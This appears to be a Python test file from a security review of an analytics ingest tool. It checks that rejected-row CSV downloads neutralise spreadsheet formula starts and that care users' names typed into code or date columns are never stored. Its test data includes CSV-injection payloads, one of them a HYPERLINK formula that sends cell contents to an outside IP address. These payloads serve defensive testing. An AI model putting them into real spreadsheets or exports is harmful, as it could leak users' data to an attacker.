"""Rejected rows, found in a security review: the download neutralises every formula start whatever the
column's dtype, and a care user's name typed (or shifted) into a code, number or date column is never
stored in rejected_rows nor shown in the summary."""
from __future__ import annotations

import csv
import io

import sqlalchemy as sa

from analytics import ingest
from analytics.ingest import history
from analytics.reports import tabular
from analytics.store import engine as store_engine

from .helpers import office

FORMULAS = ["=HYPERLINK(\"http://203.0.113.9/?\"&A1)", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1",
            "＝1+1", "＋1", "－1", "＠SUM(A1)"]
STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
NAMES = ["山田太郎", "ヤマダタロウ", "ﾔﾏﾀﾞﾀﾛｳ", "Taro Yamada", "やまだ はなこ"]


def _upload(rows: list[list[str]]) -> bytes:
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\r\n").writerows(rows)
    return buf.getvalue().encode("utf-8-sig")


def test_rejected_rows_download_neutralises_every_formula_start(duck_url):
    eng = store_engine.get_engine(duck_url)
    rows = [["事業所番号", "事業所名", "都道府県", "市区町村コード"], [office(30, 1), "テスト事業所", "30", "302015"]]
    rows += [[f, "テスト", "30", "302015"] for f in FORMULAS]
    s = ingest.ingest_files(eng, "offices", [("offices.csv", _upload(rows))])
    assert s.rejected == len(FORMULAS)
    rejected = history.rejected_rows(eng, s.batch_ids)
    cells = [c for r in csv.reader(io.StringIO(tabular.rejected_csv(rejected).decode("utf-8-sig"))) for c in r]
    assert {f for f in FORMULAS if "'" + f in cells} == set(FORMULAS)  # each one there, made inert
    assert not [c for c in cells if c.startswith(STARTS)]


def test_a_name_in_a_code_or_date_column_is_not_kept(duck_url):
    eng = store_engine.get_engine(duck_url)
    rows = [["事業所番号", "利用開始日"], [office(30, 1), "2025-04-01"]]
    rows += [[n, "2025-04-01"] for n in NAMES] + [[office(30, 2), "山田太郎"]]
    # and an ordinary mistake is still shown as typed, so the user can find it
    rows += [["30701000", "2025-04-01"], [office(30, 3), "令和7年13月1日"]]
    s = ingest.ingest_files(eng, "registrations", [("regs.csv", _upload(rows))])
    assert (s.accepted, s.rejected) == (1, len(NAMES) + 3)
    with eng.connect() as conn:
        stored = conn.execute(sa.select(*[sa.cast(c, sa.String) for c in
                                          store_engine_schema().rejected_rows.c])).fetchall()
    text = "\n".join(" ".join(str(v) for v in r) for r in stored) + repr(s.as_json())
    for name in NAMES + ["ヤマダタロウ"]:
        assert name not in text, name
    shown = {e["value"] for e in s.errors}
    assert "30701000" in shown and "令和7年13月1日" in shown


def store_engine_schema():
    from analytics.store import schema
    return schema
